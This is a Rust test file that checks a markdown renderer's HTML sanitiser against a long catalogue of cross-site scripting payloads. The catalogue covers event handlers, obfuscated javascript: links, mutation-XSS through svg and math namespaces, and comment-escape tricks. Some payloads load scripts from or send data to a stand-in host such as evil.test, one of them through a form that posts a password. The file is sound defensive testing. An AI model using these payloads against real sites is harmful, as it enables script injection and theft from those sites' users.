//! Known kinds of cross-site scripting, each judged by the tree that a parser builds.

use idempost::post::render::RawHtml;

use crate::dom::{attribute_values, dangers, text};
use crate::{html, html_with};

/// What would run, load or submit if the page were not sanitised; the test asserts that too.
const HOSTILE: &[&str] = &[
    // Elements that run or load.
    "<script>fetch('//evil.test')</script>",
    "<script src=//evil.test/a.js></script>",
    "<SCRIPT\n>steal()</SCRIPT\n>",
    "text <script>steal()</script> text",
    "<script>steal()",
    "<scr<script>ipt>steal()</script>",
    "<<script>steal()//<</script>",
    "<div>\n<script/x>steal()</script/y>\n</div>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;steal()&lt;/script&gt;\"></iframe>",
    "<object data=//evil.test/a.swf></object>",
    "<embed src=//evil.test/a.swf>",
    "<applet code=Evil></applet>",
    "<style>body{background:url(//evil.test)}</style>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<marquee onstart=steal()>x</marquee>",
    "<isindex action=javascript:steal()>",
    "<dialog open onclose=steal()>x</dialog>",
    "<portal src=https://evil.test></portal>",
    // Event handlers.
    "<img src=x onerror=steal()>",
    "<img src=x OnErRoR = 'steal()'>",
    "<div>\n<img/src='x'/onerror=steal()>\n</div>",
    "<img src=x\nonerror=steal()>",
    "<div>\n<img src=\"x\"onerror=\"steal()\">\n</div>",
    "<img src='x' alt='`' onerror=steal()>",
    "<p onmouseover=steal()>x</p>",
    "x <b onclick=\"steal()\">y</b>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<body onload=steal()><svg onload=steal()>",
    "<div onpointerrawupdate=steal()>x</div>",
    "<a href=/ok onfocus=steal() autofocus tabindex=1>x</a>",
    "<input autofocus onfocus=steal()>",
    "<td onclick=steal()>x</td><table><tr><td onclick=steal()>y</table>",
    // Addresses that run.
    "[x](javascript:steal\\(\\))",
    "[x](JaVaScRiPt:steal)",
    "[x](java&#115;cript:steal)",
    "[x](&#x6A;avascript&colon;steal)",
    "[x][r]\n\n[r]: javascript:steal 'title'",
    "[r]\n\n[r]: <vbscript:steal>",
    "<javascript:steal()>",
    "<vbscript:steal>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:steal)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:text/html,steal)",
    "[![x](javascript:a)](javascript:b)",
    "<a href=javascript:steal()>x</a>",
    "<a href='jav&#x0A;ascript:steal()'>x</a>",
    "<a href='jav&#x09;ascript:steal()'>x</a>",
    "<a href='jav\tascript:steal()'>x</a>",
    "<a href='&#14; javascript:steal()'>x</a>",
    "<a href=&#0000106&#0000097&#0000118&#0000097script:steal()>x</a>",
    "<a href=&#106avascript:steal()>x</a>",
    "<a href='javascript&colon;steal()'>x</a>",
    "<a href=feed:javascript:steal()>x</a>",
    "<a href='blob:https://evil.test/1'>x</a>",
    "<a href='filesystem:https://evil.test/1'>x</a>",
    "<a href=vbscript:steal>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src=javascript:steal()>",
    "<img src='data:image/svg+xml;utf8,<svg onload=steal()>'>",
    "<img srcset='javascript:steal() 1x'>",
    "<img lowsrc=javascript:steal()>",
    "<img dynsrc=javascript:steal()>",
    "<a ping=//evil.test href=/ok>x</a>",
    "<blockquote cite=javascript:steal()>x</blockquote>",
    "<q cite='vbscript:steal'>x</q>",
    "<table background=javascript:steal()><tr><td>x</table>",
    "<a xlink:href=javascript:steal()>x</a>",
    // Forms.
    "<form action=//evil.test><input name=password></form>",
    "<form><button formaction=javascript:steal()>x</button></form>",
    "<input type=image src=x onerror=steal()>",
    "<input type=submit formaction=javascript:steal()>",
    "<isindex type=image src=x onerror=steal()>",
    "<textarea autofocus onfocus=steal()></textarea>",
    "<select autofocus onfocus=steal()><option>x</select>",
    "<keygen autofocus onfocus=steal()>",
    // Style.
    "<p style='background:url(javascript:steal())'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<td style='text-align: left;behavior:url(x)'>x</td><table><tr><th style='text-align:expression(steal())'>x</table>",
    // Other namespaces and parsers.
    "<svg><script>steal()</script></svg>",
    "<svg><script xlink:href=data:,steal()></script></svg>",
    "<svg><a xlink:href=javascript:steal()><text>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:steal() /><a id=a>x</a></svg>",
    "<svg><set attributeName=onmouseover to=steal()></svg>",
    "<svg><foreignObject><iframe src=javascript:steal()></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><a href=javascript:steal()>x</a></math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:steal()>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
    "<math><mi><table><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=steal()>\"></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    "<template><script>steal()</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=steal()>\"></xmp>",
    "<noembed><p title=\"</noembed><img src=x onerror=steal()>\"></noembed>",
    "<plaintext><script>steal()</script>",
    "<title><p title=\"</title><img src=x onerror=steal()>\"></title>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=steal()>\"></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    // Comments and declarations that end where one did not think.
    "<!--><img src=x onerror=steal()>-->",
    "<!---><img src=x onerror=steal()>-->",
    "<!-- x --!><img src=x onerror=steal()> -->",
    "<!-- a --><img src=x onerror=steal()><!-- b -->",
    "<![CDATA[ > <img src=x onerror=steal()> ]]>",
    "<?x > <img src=x onerror=steal()> ?>",
    "<!x > <img src=x onerror=steal()>",
    "<svg><![CDATA[><img src=x onerror=steal()>]]>",
    // Broken markup.
    "<img src=\"x` `<script>steal()</script>\"` `>",
    "<a href=\"/ok\" title=\"'\"><img src=x onerror=steal()>\">x</a>",
    "</p><img src=x onerror=steal()><p>",
    "<table><td><script>steal()</script></table><script>steal()</script>",
    "<a href=/ok><div><a href=javascript:steal()>x</a></div></a>",
    "<select><svg><img src=x onerror=steal()></svg></select><img src=x onerror=steal()>",
];

/// Harmless by themselves; each must stay text or lose its sting and not break out of where it stands.
const TRICKS: &[&str] = &[
    "![\"onerror=\"steal()](x)",
    "![a\" onerror=\"steal()](x \"b\" )",
    "![<img src=x onerror=steal()>](x)",
    "[x](/ok \"a&quot; onclick=&quot;steal()\")",
    "[x](/ok '\"><script>steal()</script>')",
    "[x](</ok\" onclick=\"steal()>)",
    "[<script>steal()</script>](/ok)",
    "`<script>steal()</script>`",
    "```\n<script>steal()</script>\n```",
    "```\"><script>steal()</script>\nx\n```",
    "    <img src=x onerror=steal()>",
    "\\<script>steal()\\</script>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "[^\"><script>x</script>]\n\n[^\"><script>x</script>]: y",
    "# \"><img src=x onerror=steal()>",
    "# x\" onclick=\"steal()",
    "| <b | onclick=steal()> |\n|---|---|\n| x | y |",
    "[x](/ok\u{0}\"onclick=steal())",
    "<https://ok.test/\"onclick=\"steal()>",
    "<a@b.test\"onclick=\"steal()>",
    "{{ constructor.constructor('steal()')() }}",
    "[x](javas\u{200b}cript:steal)",
    "[x](java%0Ascript:steal)",
    "[x](<  javascript:steal>)",
    "[x](&#1;javascript:steal)",
    "<div title='unclosed\n\n<img src=x onerror=steal()>",
    "[x](//evil.test)",
    "<a name=getElementById id=body>x</a>",
    "<input type=checkbox>",
    "<input type=checkbox disabled=false checked>",
];

#[test]
fn nothing_hostile_is_left() {
    assert!(HOSTILE.len() >= 60);
    let mut harmless = Vec::new();
    for source in HOSTILE {
        let mut plain = String::new();
        pulldown_cmark::html::push_html(&mut plain, pulldown_cmark::Parser::new(source));
        if dangers(&plain).is_empty() {
            harmless.push(source);
        }
        judge(source);
    }
    assert_eq!(harmless, Vec::<&&str>::new(), "these are no test of a sanitiser");
}

#[test]
fn tricks_stay_where_they_stand() {
    for source in TRICKS {
        judge(source);
    }
}

#[test]
fn nothing_hostile_is_left_inside_other_markdown() {
    for source in HOSTILE.iter().chain(TRICKS) {
        let indented = source.replace('\n', "\n  ");
        let quoted = source.replace('\n', "\n> ");
        let flat = source.replace('\n', " ");
        for inside in [
            format!("- {indented}"),
            format!("> {quoted}"),
            format!("# {flat}\n"),
            format!("| a |\n|---|\n| {flat} |"),
            format!("[^n]\n\n[^n]: {flat}"),
            format!("**{flat}**"),
            format!("[{flat}](/ok)"),
            format!("![{flat}](/ok)"),
            format!("<div>\n\n{source}\n\n</div>"),
            format!("<b>{source}"),
            format!("<!-- {source}"),
        ] {
            judge(&inside);
        }
    }
}

#[test]
fn pairs_of_hostile_pieces_do_not_make_a_third() {
    for first in HOSTILE {
        for second in HOSTILE {
            let found = dangers(&html(&format!("{first}\n{second}")));
            assert_eq!(found, Vec::<String>::new(), "{first}\n{second}");
        }
    }
}

fn judge(source: &str) {
    for raw_html in [RawHtml::Sanitize, RawHtml::Escape] {
        let html = html_with(source, raw_html);
        assert_eq!(dangers(&html), Vec::<String>::new(), "{raw_html:?} {source}\n{html}");
    }
}

#[test]
fn good_links_survive_on_both_paths() {
    let body = "[a](//b.test/x) [b](/ok) [c](https://ok.test/) [d](mailto:a@b.test) [e](tel:+8210) \
                ![f](data:image/png;base64,iVBORw0KGgo=) [g](javascript:x)";
    let expected = ["//b.test/x", "/ok", "https://ok.test/", "mailto:a@b.test", "tel:+8210"];
    for body in [body.to_owned(), format!("{body} <b>raw</b>")] {
        let html = html(&body);
        assert_eq!(attribute_values(&html, "href"), expected);
        assert_eq!(attribute_values(&html, "src"), ["data:image/png;base64,iVBORw0KGgo="]);
        assert!(!html.contains("rel=") && !html.contains("target="));
    }
}

#[test]
fn what_is_written_as_code_is_read_as_code() {
    let body = "`<script>a</script>`\n\n```html\n<script>b</script>\n```\n\n<b>raw</b>\n";
    for raw_html in [RawHtml::Sanitize, RawHtml::Allow, RawHtml::Escape] {
        let text = text(&html_with(body, raw_html));
        assert!(
            text.contains("<script>a</script>") && text.contains("<script>b</script>"),
            "{raw_html:?} {text}"
        );
    }
}

#[test]
fn a_link_without_its_address_keeps_text_and_title() {
    assert_eq!(
        html("[*x* y](javascript:z 'say \"hi\"')"),
        "<p><a title=\"say &quot;hi&quot;\"><em>x</em> y</a></p>\n"
    );
    assert_eq!(html("![*x* `y`](javascript:z 't')"), "<p><img alt=\"x y\" title=\"t\" /></p>\n");
    assert_eq!(html("![a [b](javascript:c) d](e.png)"), "<p><img src=\"e.png\" alt=\"a b d\" /></p>\n");
}

/// Many unclosed formatting tags would make the parser build their product with the blocks after them.
#[test]
fn html_that_costs_out_of_proportion_is_shown_as_text() {
    let tags: String = (0..2_000).map(|n| format!("<b id=x{n}>")).collect();
    let body = format!("{tags}\n\n{}", "a\n\n".repeat(20_000));
    let html = html(&body);
    assert!(html.starts_with("<p>&lt;b id=x0&gt;"));
    assert_eq!(dangers(&html), Vec::<String>::new());
    assert!(html.len() < 4 * body.len());
}
